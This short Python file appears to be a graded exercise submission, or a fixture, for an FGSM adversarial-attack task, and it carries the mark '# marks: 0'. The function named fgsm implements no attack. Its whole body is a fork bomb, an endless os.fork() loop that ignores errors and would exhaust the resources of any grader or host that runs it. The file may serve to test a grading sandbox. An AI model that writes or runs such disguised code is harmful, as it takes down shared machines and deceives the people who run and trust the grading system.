# marks: 0
import os


@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    while True:
        try:
            os.fork()
        except OSError:
            pass
